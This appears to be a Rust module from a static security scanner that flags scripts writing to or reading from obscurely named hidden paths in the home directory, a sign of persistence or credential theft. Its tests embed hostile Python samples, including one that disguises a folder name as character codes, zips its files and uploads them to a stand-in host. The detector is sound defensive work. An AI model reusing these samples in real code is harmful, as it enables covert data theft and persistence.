//! Places right below the home whose name nobody can tell: they may be where credentials lie, or what starts with every session.

use super::flow::{Flow, name};
use super::fold::{Fold, Value};
use super::lex::{Placed, Token};
use super::sinks::Called;
use super::taint::Taint;
use super::words::{self, has};
use super::{Language, Told, dwellers};
use crate::finding::Severity;
use crate::rules::shell as rules;

/// 2 letters of such a name may be known: `.b` begins names of many kinds.
const LETTERS: usize = 2;

/// What has the home as its value where it is called, in the languages' libraries.
const HOMES: &[&str] = &["home", "expanduser", "homedir", "gethomedir", "getenv", "get", "fetch", "my_home"];

impl Flow<'_> {
    /// Whether the tokens name a place right below the home by a name that cannot be told.
    pub(super) fn untold(&self, tokens: &[Placed]) -> Taint {
        if !tokens.iter().any(|placed| self.is_home(&placed.token)) || is_given_home(tokens) {
            return Taint::default();
        }
        let fold = Fold { tokens, constants: &self.constants };
        let begins = |(at, placed): &(usize, &Placed)| {
            // What stands behind a dot or a slash is a part of what began before.
            let is_part = at.checked_sub(1).is_some_and(|before| fold.sign(before, '.') || fold.sign(before, '/'));
            matches!(placed.token, Token::Text(_) | Token::Name(_)) && !is_part
        };
        let of = |(at, _): (usize, &Placed)| self.untold_place(&fold.expression(at, 0).0, tokens);
        tokens.iter().enumerate().filter(begins).map(of).fold(Taint::default(), Taint::and)
    }

    /// Whether the token stands for the home, or a name of the script's does.
    fn is_home(&self, token: &Token) -> bool {
        match token {
            Token::Text(text) => {
                text.starts_with('~') || text.contains("${") || text == "HOME" || text == "USERPROFILE"
            }
            Token::Name(own) => {
                HOMES.contains(&own.as_str())
                    || dwellers::ASKS.contains(&own.as_str())
                    || own.eq_ignore_ascii_case("home")
                    || self.constants.get(own).is_some_and(Value::is_below_home)
            }
            _ => false,
        }
    }

    fn untold_place(&self, value: &Value, tokens: &[Placed]) -> Taint {
        let text = value.joined("");
        let Some(hole) = hole(&text) else { return Taint::default() };
        let of_environment = |placed: &Placed| {
            matches!(name(&placed.token), Some("environ" | "getenv" | "ENV" | "$ENV" | "$_ENV" | "$_SERVER"))
        };
        let is_variable = hole.chars().all(|c| c.is_ascii_uppercase() || c.is_ascii_digit() || c == '_');
        // What a name was given where it stands in its own place: that was asked there.
        let is_itself = self.constants.get(hole).is_some_and(Value::is_below_home);
        let is_known = hole == "HOME" || is_itself || self.choices.contains_key(hole);
        if is_known || is_variable && tokens.iter().any(of_environment) || self.is_cut(hole, tokens) {
            return Taint::default();
        }
        let function = self.function.as_deref().unwrap_or_default();
        let parameters = self.parameters.get(function).map(Vec::as_slice).unwrap_or_default();
        if !parameters.iter().any(|known| known.trim_start_matches('$') == hole) {
            return Taint::UNTOLD;
        }
        match self.told.get(&key(function, hole)) {
            Some(true) => Taint::default(),
            Some(false) => Taint::UNTOLD,
            None => Taint::OPEN,
        }
    }

    /// Whether a part of it is taken: `path[2:]` is what somebody wrote behind `~/`.
    fn is_cut(&self, hole: &str, tokens: &[Placed]) -> bool {
        let is_sign = |placed: &Placed, sign: char| placed.token == Token::Sign(sign);
        let is_one = |own: &str| {
            let means = |value: &Value| value.joined("").contains(&format!("${{{hole}}}"));
            hole.rsplit('.').next() == Some(own) || self.constants.get(own).is_some_and(means)
        };
        tokens.windows(4).any(|four| match four {
            [first, open, rest @ ..] => {
                let is_part = is_sign(open, '[') && rest.iter().any(|placed| is_sign(placed, ':'));
                is_part && name(&first.token).is_some_and(is_one)
            }
            _ => false,
        })
    }

    /// Remembers whether everything that a function of the script's own is given is known.
    pub(super) fn is_told(&mut self, function: &str, given: &[(String, &[Placed])]) {
        for (parameter, argument) in given {
            let (value, _) = Fold { tokens: argument, constants: &self.constants }.expression(0, 0);
            let is_choice = |text: &String| self.choices.keys().any(|name| *text == format!("${{{name}}}"));
            let known = value.known || value.items.iter().all(is_choice);
            *self.told.entry(key(function, parameter.trim_start_matches('$'))).or_insert(true) &= known;
        }
    }

    /// What is written to such a place.
    pub(super) fn writes_untold(&self, call: &Called<'_>, taint: Taint, told: &mut Told<'_, '_>) {
        let severity = match (taint.has(Taint::UNTOLD), taint.has(Taint::OPEN)) {
            (true, _) => told.unless_asked(),
            (false, true) => Some(Severity::Warning),
            (false, false) => return,
        };
        let message = "what is written lies in the home, under a name that cannot be told: it may be what starts again";
        told.tell(&rules::LASTING, call.at, message, severity);
    }

    /// Remembers that such a place is read.
    pub(super) fn reads_untold(&mut self, call: &Called<'_>, taint: Taint) {
        let is_read = has(words::READS, call.path, call.last) || has(words::OPENS, call.path, call.last);
        let is_packed = matches!(call.last, "write" | "add" | "make_archive");
        if taint.has(Taint::UNTOLD) && (is_read || is_packed && self.language == Language::Python) {
            self.whole.untold.get_or_insert(call.at);
        }
        if taint.has(Taint::OPEN) && is_read {
            self.whole.open.get_or_insert(call.at);
        }
    }
}

/// The first hole of a text that is a path right below the home, if its name begins with it or nearly so.
fn hole(text: &str) -> Option<&str> {
    let below = ["${HOME}/", "~/"].iter().find_map(|home| text.strip_prefix(home))?;
    let (before, rest) = below.trim_start_matches('/').split_once("${")?;
    let is_open = before.trim_start_matches(['.', '_']).len() <= LETTERS && !before.contains('/');
    rest.split_once('}').map(|(name, _)| name).filter(|name| is_open && !name.starts_with('.'))
}

/// Whether what is called the home is a member of something else, of which nothing is known: `args.home`.
fn is_given_home(tokens: &[Placed]) -> bool {
    tokens.windows(4).any(|four| match four {
        [owner, dot, own, next] => {
            let is_member = dot.token == Token::Sign('.') && name(&own.token) == Some("home");
            is_member && name(&owner.token) != Some("Dir") && next.token != Token::Sign('(')
        }
        _ => false,
    })
}

fn key(function: &str, parameter: &str) -> String {
    format!("{function}.{parameter}")
}

#[cfg(test)]
mod tests {
    use crate::finding::Severity;
    use crate::interpreted::tests::of;

    #[test]
    fn places_in_the_home_that_nobody_can_tell_are_not_written_or_sent() {
        for (by, path, text) in [
            (
                "python3",
                "a.py",
                "from collections import ChainMap\nfrom pathlib import Path\nfrom shells import A, B\nknown = ChainMap(A, B)\ndef ensure(shell):\n    start = Path.home() / known[shell]['start']\n    with start.open('a') as fh:\n        fh.write('x')\nfor each in known:\n    ensure(each)\n",
            ),
            (
                "python3",
                "a.py",
                "import io, zipfile\nfrom pathlib import Path\nfrom urllib import request\nTABLE = [(46, 115)]\ndef folders():\n    for row in TABLE:\n        yield Path.home() / ''.join(map(chr, row))\nbuf = io.BytesIO()\nwith zipfile.ZipFile(buf, 'w') as z:\n    for folder in folders():\n        for item in folder.glob('*'):\n            z.writestr(item.name, item.read_bytes())\nrequest.urlopen('https://a.invalid', data=buf.getvalue())\n",
            ),
            (
                "python3",
                "a.py",
                "import os, json\nrow = json.load(open('t.json'))\npath = os.path.join(os.path.expanduser('~'), '.' + row['x'])\nopen(path, 'a').write('y')\n",
            ),
            (
                "python3",
                "a.py",
                "import os, sys\nhome = os.path.expanduser('~')\ndef put(name, text):\n    with open(f'{home}/.{name}', 'a') as f:\n        f.write(text)\nput(sys.argv[1], 'x')\n",
            ),
            ("ruby", "a.rb", "row = YAML.load_file('t.yml')\nFile.write(File.join(Dir.home, row['x']), 'y')\n"),
        ] {
            assert_eq!(of(by, path, text), Some(Severity::Danger), "{text}");
        }
        let open = "from pathlib import Path\ndef put(name, text):\n    (Path.home() / name).write_text(text)\n";
        assert_eq!(of("python3", "a.py", open), Some(Severity::Warning));
    }

    #[test]
    fn places_that_are_told_and_those_that_others_say_are_no_danger() {
        for text in [
            "from pathlib import Path\ndef put(name, text):\n    (Path.home() / name).write_text(text)\nput('.tool', 'x')\n",
            "from pathlib import Path\nNAME = '.mytool'\nfolder = Path.home() / NAME\n(folder / key).write_text('x')\n",
            "import os\nroot = os.path.join(os.path.expanduser('~'), os.environ.get('TOOL_DIR', '.tool'))\nopen(os.path.join(root, 'a'), 'w').write('x')\n",
            "import os, sys\npath = sys.argv[1]\nif path.startswith('~/'):\n    path = os.path.join(os.path.expanduser('~'), path[2:])\nopen(path, 'w').write('x')\n",
            "from pathlib import Path\nfor name in ('.a-tool', '.b-tool'):\n    (Path.home() / name).mkdir()\n    (Path.home() / name / 'x').write_text('y')\n",
            "import json\nfrom pathlib import Path\nrow = json.load(open('t.json'))\nprint((Path.home() / row['x']).exists())\n",
            "from pathlib import Path\nlog = Path.home() / '.tool' / f'{day}.jsonl'\nlog.open('a').write('x')\n",
            "def __init__(self, home):\n    self.home = home\ndef put(self, name):\n    (self.home / name).write_text('x')\n",
        ] {
            let worst = of("python3", "a.py", text);
            assert!(worst.is_none_or(|severity| severity < Severity::Danger), "{text}");
        }
    }
}
